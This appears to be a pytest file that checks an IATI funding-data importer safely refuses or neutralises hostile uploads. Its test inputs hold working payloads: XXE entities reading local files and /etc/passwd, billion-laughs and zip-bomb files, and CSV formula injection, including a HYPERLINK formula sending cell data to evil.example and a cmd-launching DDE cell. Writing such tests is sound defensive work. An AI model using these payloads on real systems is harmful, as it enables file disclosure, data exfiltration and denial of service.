"""Hostile files through the real upload path (issue 8, item 1): refused or handled safely.

Every case goes through ``importReport`` on the ASGI app (httpx, multipart, admin token)
and checks three things: the answer says where and why; nothing of the file is written
(every ledger table keeps its row count, no ``import_batch`` row is left); the server
answers the next query. The same cases at the ``import_file`` level, without HTTP, are in
``tests/test_xml_security.py`` (billion laughs, external entity, external DTD) and
``tests/test_filesafety.py`` (zip bombs, XLSX entities, formulas, encodings); they are
not repeated here.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, func, select

from fundtrack.api.testing import Api
from fundtrack.auth.tokens import create_token
from fundtrack.export import stream_csv
from fundtrack.ledger import tables as m
from fundtrack.web.filters import FlowFilter
from tests.test_filesafety import MPTF, rewrite_xlsx

SECRET = "TOP-SECRET-CONTENT-4711"
IMPORT = """mutation($file: Upload!, $strict: Boolean!) {
  importReport(input: {file: $file, strict: $strict}) {
    status message counts errors { code message } issues { severity code location message }
    batch { id } } }"""
#: Every table an import writes to.
LEDGER = [t for t in m.Base.metadata.sorted_tables
          if t.name in {"import_batch", "batch_issue", "organisation", "activity", "flow", "budget",
                        "activity_country", "activity_region", "activity_sector",
                        "policy_marker", "participating_org", "related_activity",
                        "activity_tag", "flow_policy_marker", "flow_parent"}]

SEED = """<?xml version="1.0" encoding="UTF-8"?>
<iati-activities version="2.03"><iati-activity default-currency="USD">
 <iati-identifier>XX-SEED-1</iati-identifier>
 <reporting-org ref="XX-SEED" type="10"><narrative>Seed</narrative></reporting-org>
 <title><narrative>Seed</narrative></title>
 <transaction><transaction-type code="3"/><transaction-date iso-date="2020-01-01"/>
  <value value-date="2020-01-01">100.50</value></transaction>
</iati-activity></iati-activities>
"""


def activity(value: str = "5", *, ident: str = "XX-1-A1", currency: str = "USD",
             value_date: str = "2020-01-01", extra: str = "", tx_extra: str = "",
             prolog: str = "") -> bytes:
    """A one-activity IATI file with one transaction, for bending one field at a time."""
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}'
            f'<iati-activities version="2.03"><iati-activity default-currency="{currency}">\n'
            f" <iati-identifier>{ident}</iati-identifier>\n"
            f' <reporting-org ref="XX-1" type="10"><narrative>X</narrative></reporting-org>\n'
            f" <title><narrative>T</narrative></title>{extra}\n"
            f' <transaction><transaction-type code="3"/><transaction-date iso-date="2020-01-01"/>'
            f'<value value-date="{value_date}">{value}</value>{tx_extra}</transaction>\n'
            f"</iati-activity></iati-activities>\n").encode()


class Uploads:
    """The ASGI app on a seeded database, an admin token, and table snapshots."""

    def __init__(self, url: str, engine: Engine) -> None:
        self.engine = engine
        self.api = Api(url)
        _, self.token = create_token(engine, "admin", label="hostile")
        seed = self.upload(SEED.encode(), "seed.xml")
        assert seed["status"] == "applied", seed
        self.before = self.counts()

    def upload(self, data: bytes | Path, name: str, *, strict: bool = False) -> dict[str, Any]:
        ops = {"query": IMPORT, "variables": {"file": None, "strict": strict}}
        body: Any = data.open("rb") if isinstance(data, Path) else data
        try:
            r = self.api.post(None, headers={"GraphQL-Preflight": "1",
                                             "Authorization": f"Bearer {self.token}"},
                              data={"operations": json.dumps(ops),
                                    "map": json.dumps({"0": ["variables.file"]})},
                              files={"0": (name, body, "application/octet-stream")})
        finally:
            if hasattr(body, "close"):
                body.close()
        assert r.status_code == 200, r.text[:500]
        out = r.json()
        assert "errors" not in out, out["errors"]
        return out["data"]["importReport"]

    def counts(self) -> dict[str, int]:
        with self.engine.connect() as c:
            return {t.name: c.execute(select(func.count()).select_from(t)).scalar_one()
                    for t in LEDGER}

    def refused(self, data: bytes | Path, name: str, *, strict: bool = False,
                ) -> dict[str, Any]:
        """Upload, expect a rejection, check nothing was written and the server answers."""
        out = self.upload(data, name, strict=strict)
        assert out["status"] == "rejected", out
        assert out["batch"] is None and out["errors"][0]["code"] == "REJECTED"
        self.nothing_written()
        return out

    def nothing_written(self) -> None:
        assert self.counts() == self.before
        self.alive()

    def alive(self) -> None:
        data = self.api.query("{ flows { totalCount } importBatches { totalCount } }")
        assert data["importBatches"]["totalCount"] >= 1


@pytest.fixture
def up(db_url: str, engine: Engine) -> Uploads:
    return Uploads(db_url, engine)


def where(out: dict[str, Any]) -> str:
    """Every location and message of the answer, for asserting what it names."""
    return " | ".join(f"{i['location']}: {i['message']}" for i in out["issues"]) + " | " \
        + out["message"]


# -- XML entity and DTD attacks -----------------------------------------------------------


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    p = tmp_path / "secret.txt"
    p.write_text(SECRET)
    return p


class _Hits(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server API
        _Hits.hits.append(self.path)
        body = f'<!ENTITY secret "{SECRET}">'.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_a: Any) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[str]:
    """A local HTTP server that counts fetches: a parser that reaches out would show."""
    _Hits.hits = []
    server = HTTPServer(("127.0.0.1", 0), _Hits)
    t = threading.Thread(target=server.serve_forever, daemon=True)
    t.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_external_entity_file_is_refused(up: Uploads, secret_file: Path) -> None:
    out = up.refused(activity(ident="&xxe;", prolog=f'<!DOCTYPE x [ <!ENTITY xxe SYSTEM '
                              f'"file://{secret_file}"> ]>\n'), "xxe.xml")
    # the DOCTYPE is on line 2 (after the XML declaration), and the answer says so
    assert "DOCTYPE declarations are not allowed" in out["message"] and "line 2" in out["message"]
    assert SECRET not in json.dumps(out)


def test_external_parameter_entity_is_not_fetched(up: Uploads, secret_file: Path,
                                                  listener: str) -> None:
    for target in (f"file://{secret_file}", f"{listener}/evil.dtd"):
        out = up.refused(activity(prolog=f'<!DOCTYPE x [ <!ENTITY % p SYSTEM "{target}"> %p; ]>\n'),
                         "param.xml")
        assert "DOCTYPE declarations are not allowed" in out["message"], out
        assert SECRET not in json.dumps(out)
    assert _Hits.hits == []


def test_external_dtd_is_refused_and_not_fetched(up: Uploads, listener: str) -> None:
    out = up.refused(activity(ident="&secret;", prolog=f'<!DOCTYPE iati-activities SYSTEM '
                              f'"{listener}/evil.dtd">\n'), "dtd.xml")
    assert "DOCTYPE declarations are not allowed" in out["message"]
    assert _Hits.hits == [] and SECRET not in json.dumps(out)


def test_billion_laughs_is_refused(up: Uploads) -> None:
    ents = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    out = up.refused(activity(ident="&l9;", prolog=f"<!DOCTYPE x [{ents}]>\n"), "lol.xml")
    assert "DOCTYPE declarations are not allowed" in out["message"]
    assert "lollol" not in json.dumps(out)


def test_quadratic_blowup_is_refused(up: Uploads) -> None:
    """One 50 kB entity used 50,000 times would expand to 2.5 GB; entities are never expanded."""
    prolog = f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]>\n'
    out = up.refused(activity(ident="&a;" * 50_000, prolog=prolog), "quadratic.xml")
    assert "DOCTYPE declarations are not allowed" in out["message"]


# -- sheer size and shape -----------------------------------------------------------------


def _big_text_node(path: Path, megabytes: int) -> Path:
    """An IATI file whose title is one text node of ``megabytes`` MiB, streamed to disk."""
    chunk = b"A" * (1 << 20)
    with path.open("wb") as fh:
        fh.write(activity().split(b"<title><narrative>")[0] + b"<title><narrative>")
        for _ in range(megabytes):
            fh.write(chunk)
        fh.write(b"</narrative></title></iati-activity></iati-activities>\n")
    return path


def _cli_peak_rss_kib(db_url: str, path: Path) -> tuple[int, str]:
    """``fundtrack import PATH`` in a child process: (its peak RSS in KiB, its output)."""
    code = ("import resource, sys; from fundtrack.cli import main\n"
            "try:\n    main(['import', '--quiet', sys.argv[1]])\n"
            "except SystemExit:\n    pass\n"
            "print('PEAK', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)")
    env = {**os.environ, "FUNDTRACK_DATABASE_URL": db_url}
    r = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True,
                       env=env, timeout=300, cwd=Path(__file__).parents[1])
    peak = int(r.stdout.rsplit("PEAK", 1)[1])
    return peak, r.stdout + r.stderr


def test_100_mb_text_node_is_refused_with_bounded_memory(up: Uploads, db_url: str,
                                                         tmp_path: Path) -> None:
    """libxml2 refuses a text node above 10 MB (``huge_tree`` stays off) at its line and
    column; the importer never holds the 100 MB. Peak RSS of a CLI import of the 100 MB file
    is compared with the same import of a 1 MB one (same process shape, measured in the
    same run)."""
    big = _big_text_node(tmp_path / "big.xml", 100)
    assert big.stat().st_size > 100 * 1024 * 1024
    small = _big_text_node(tmp_path / "small.xml", 1)
    small_peak, _ = _cli_peak_rss_kib(db_url, small)
    big_peak, output = _cli_peak_rss_kib(db_url, big)
    assert "rejected" in output and "Text node too long" in output and "line 5, column" in output, output
    assert big_peak - small_peak < 64 * 1024, (small_peak, big_peak)  # KiB: under 64 MiB more
    print(f"peak RSS: 1 MB file {small_peak // 1024} MiB, 100 MB file {big_peak // 1024} MiB")
    up.before = up.counts()  # the 1 MB import was applied: that is the baseline now
    out = up.refused(big, "big.xml")
    assert "Text node too long" in out["message"] and "line 5, column" in out["message"]


def test_10000_deep_nesting_is_refused(up: Uploads) -> None:
    deep = "<a>" * 10_000 + "</a>" * 10_000
    out = up.refused(activity(extra=f"<description>{deep}</description>"), "deep.xml")
    assert "depth" in out["message"].lower() and "line 5, column" in out["message"], out


def test_zip_bomb_xlsx_is_refused(up: Uploads, tmp_path: Path) -> None:
    bomb = rewrite_xlsx(MPTF, tmp_path / "bomb.xlsx", {},
                        {"xl/media/padding.xml": b"<a>" + b"0" * (60 * 1024 * 1024) + b"</a>"})
    assert bomb.stat().st_size < 200 * 1024
    out = up.refused(bomb, "bomb.xlsx")
    assert "zip bomb" in out["message"] and "part xl/media/padding.xml" in out["message"]


def test_xlsx_part_with_doctype_is_refused(up: Uploads, tmp_path: Path) -> None:
    part = "xl/workbook.xml"
    with zipfile.ZipFile(MPTF) as zf:
        body = zf.read(part)
    body = body.split(b"?>", 1)[1] if body.startswith(b"<?xml") else body
    evil = rewrite_xlsx(MPTF, tmp_path / "evil.xlsx", {part: b'<?xml version="1.0"?>\n'
                        b'<!DOCTYPE sst [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n' + body})
    out = up.refused(evil, "evil.xlsx")
    assert "DOCTYPE or entity" in out["message"] and f"part {part}" in out["message"]


# -- CSV and encodings --------------------------------------------------------------------

MPTF_HEAD = "Contributor/Depositor;Fund;Year;Deposit amount\r\n"


def test_csv_formula_cells_are_stored_as_text_and_neutralised_on_export(up: Uploads) -> None:
    """Cells starting with = + - @ are data: stored exactly as written, never evaluated;
    the CSV export prefixes them with ' so a spreadsheet shows them as text. A formula
    where a number belongs skips the row, naming row and column."""
    rows = ['=HYPERLINK("http://evil.example/?"&A1,"x");Fund A;2020;10.00',
            "+cmd|' /C calc'!A0;Fund A;2020;20.00",
            "-2+3;Fund A;2020;-5.25",
            "@SUM(1+1);Fund A;2020;30.00",
            "Plain donor;Fund A;2020;=1+1"]
    out = up.upload((MPTF_HEAD + "\r\n".join(rows) + "\r\n").encode(), "formulas.csv")
    assert out["status"] == "applied", out
    assert out["counts"]["flows"] == 4 and out["counts"]["skipped"] == 1
    skipped = [i for i in out["issues"] if i["severity"] == "error"]
    assert "row 6" in skipped[0]["location"] and "Deposit amount" in skipped[0]["location"]
    with up.engine.connect() as c:
        stored = dict(c.execute(select(m.Flow.provider_name, m.Flow.amount)
                                .where(m.Flow.provider_name.is_not(None))).all())
    assert stored == {'=HYPERLINK("http://evil.example/?"&A1,"x")': Decimal("10.00"),
                      "+cmd|' /C calc'!A0": Decimal("20.00"), "-2+3": Decimal("-5.25"),
                      "@SUM(1+1)": Decimal("30.00")}, stored
    exported = list(csv.DictReader(io.StringIO("".join(stream_csv(up.engine, FlowFilter())))))
    names = {r["provider_name"]: r["amount"] for r in exported if r["provider_name"]}
    assert all(n.startswith("'") for n in names), names
    assert names["'-2+3"] == "-5.25"  # amounts stay plain numbers, never neutralised
    up.alive()


def test_mixed_encodings_in_csv_are_refused(up: Uploads) -> None:
    data = (MPTF_HEAD + "Société Générale;Fund A;2020;10.00\r\n").encode("utf-8") \
        + "Müller AG;Fund A;2020;20.00\r\n".encode("cp1252")
    out = up.refused(data, "mixed.csv")
    assert "encoding" in out["message"], out


def test_xml_declared_utf8_but_latin1_is_refused(up: Uploads) -> None:
    data = activity(extra="<description><narrative>Société</narrative></description>")
    data = data.replace("Société".encode(), "Société".encode("latin-1"))
    out = up.refused(data, "latin1.xml")
    assert "malformed XML" in out["message"] and "line 5, column" in out["message"], out
    assert "encoding" in out["message"]


# -- values -------------------------------------------------------------------------------


@pytest.mark.parametrize(("value", "why"), [
    ("NaN", "not a finite number"), ("Infinity", "not a finite number"),
    ("-Infinity", "not a finite number"), ("1e400", "out of range"), ("1e-400", "out of range"),
    ("1000000000000000000", "out of range"),
])
def test_absurd_amounts_are_refused(up: Uploads, value: str, why: str) -> None:
    """Strict: the file is refused, naming the transaction; not strict: that flow is
    skipped with the same error and the rest of the file is imported."""
    out = up.refused(activity(value), f"amount-{value}.xml", strict=True)
    assert why in out["message"] and "transaction[1] (line 6)" in out["message"], out
    lax = up.upload(activity(value), f"amount-{value}.xml")
    assert lax["status"] == "applied" and lax["counts"]["flows"] == 0, lax
    assert lax["counts"]["skipped"] == 1 and why in where(lax)
    with up.engine.connect() as c:
        assert c.execute(select(func.count()).select_from(m.Flow)).scalar_one() \
            == up.before["flow"]


def test_negative_zero_is_stored_as_zero(up: Uploads) -> None:
    out = up.upload(activity("-0.00"), "zero.xml")
    assert out["status"] == "applied" and out["counts"]["flows"] == 1
    got = up.api.query('{ flows(where: {reportingOrgRef: {_eq: "XX-1"}}) { nodes { amount } } }')
    assert got["flows"]["nodes"] == [{"amount": "0.00"}]


def test_year_0_date_is_ignored_with_a_warning(up: Uploads) -> None:
    """Year 0 does not exist: the date is dropped with a warning naming the transaction."""
    out = up.upload(activity(value_date="0000-01-01"), "year0.xml")
    assert out["status"] == "applied", out
    warn = [i for i in out["issues"] if i["code"] == "bad-date"]
    assert warn and "transaction[1] (line 6)" in warn[0]["location"]
    assert "'0000-01-01'" in warn[0]["message"]
    with up.engine.connect() as c:
        dates = c.execute(select(m.Flow.value_date).where(m.Flow.reporting_org_ref == "XX-1")
                          ).scalars().all()
    assert dates == [date(2020, 1, 1)]  # the transaction date, as for a missing value-date


def test_year_9999_is_kept_and_served(up: Uploads) -> None:
    out = up.upload(activity(value_date="9999-12-31"), "year9999.xml")
    assert out["status"] == "applied" and out["counts"]["flows"] == 1
    got = up.api.query('{ flows(where: {reportingOrgRef: {_eq: "XX-1"}}) { nodes { valueDate } } '
                       "flowsAggregate(groupBy: [YEAR]) { groups { year count } } }")
    assert got["flows"]["nodes"] == [{"valueDate": "9999-12-31"}]
    years = {g["year"]: g["count"] for g in got["flowsAggregate"]["groups"]}
    assert years == {2020: 1, 9999: 1}


LONG = "X" * 10_000


@pytest.mark.parametrize(("field", "xml"), [
    ("identifier", {"ident": LONG}),
])
def test_10000_character_codes_are_refused(up: Uploads, field: str, xml: dict[str, str]) -> None:
    """An essential field longer than its column: the record is skipped, naming the field
    and limit (PostgreSQL used to fail mid-COPY with an internal error; SQLite kept the
    value). Here the file's one activity goes, so the file is refused."""
    out = up.refused(activity(**xml), f"long-{field}.xml")
    msg = where(out)
    assert f"{field} is 10,000 characters long, above the limit of" in msg, msg
    assert "(line 2)" in msg


def test_10000_character_default_currency_keeps_the_activity(up: Uploads) -> None:
    """Not a currency code: ignored with a warning; the flow is kept without a currency."""
    out = up.upload(activity(currency=LONG), "long-default-currency.xml")
    assert out["status"] == "applied" and out["counts"]["flows"] == 1, out
    assert [i["code"] for i in out["issues"]] == ["bad-currency", "no-currency", "no-usd-rate"]
    up.alive()


@pytest.mark.parametrize(("field", "xml", "limit"), [
    ("status", {"extra": f'<activity-status code="{LONG}"/>'}, 10),
    ("recipient_countries[].code", {"extra": f'<recipient-country code="{LONG}"/>'}, 1000),
    ("sectors[].vocabulary", {"extra": f'<sector code="151" vocabulary="{LONG}"/>'}, 10),
    ("recipient_country", {"tx_extra": f'<recipient-country code="{LONG}"/>'}, 10),
    ("flow_type", {"tx_extra": f'<flow-type code="{LONG}"/>'}, 10),
    ("provider.ref", {"tx_extra": f'<provider-org ref="{LONG}"/>'}, 1000),
    ("sector.code", {"tx_extra": f'<sector code="{LONG}"/>'}, 1000),
])
def test_10000_character_non_essential_values_are_kept_shortened(
        up: Uploads, field: str, xml: dict[str, str], limit: int) -> None:
    """A non-essential value longer than its column never costs the activity or its money
    (issue 14): it is kept shortened to the limit, and a warning names field and limit."""
    out = up.upload(activity(**xml), f"long-{field}.xml")
    assert out["status"] == "applied" and out["counts"]["flows"] == 1, out
    warned = [i for i in out["issues"] if i["code"] == "value-shortened"]
    assert len(warned) == 1, out["issues"]
    assert warned[0]["message"].startswith(
        f"{field} is 10,000 characters long, above the limit of {limit} for this field; kept "
        f"shortened to {'X' * min(limit, 60)!r}{'...' if limit > 60 else ''} "), warned
    up.alive()


def test_spreadsheet_year_0_and_huge_amounts_skip_the_row(up: Uploads) -> None:
    rows = ["Donor A;Fund A;0;10.00", "Donor B;Fund A;2020;1e400", "Donor C;Fund A;2020;NaN"]
    out = up.refused((MPTF_HEAD + "\r\n".join(rows) + "\r\n").encode(), "bad.csv")
    msg = where(out)
    assert "row 2" in msg and "Year" in msg
    assert "row 3" in msg and "out of range" in msg
    assert "row 4" in msg and "not a finite number" in msg
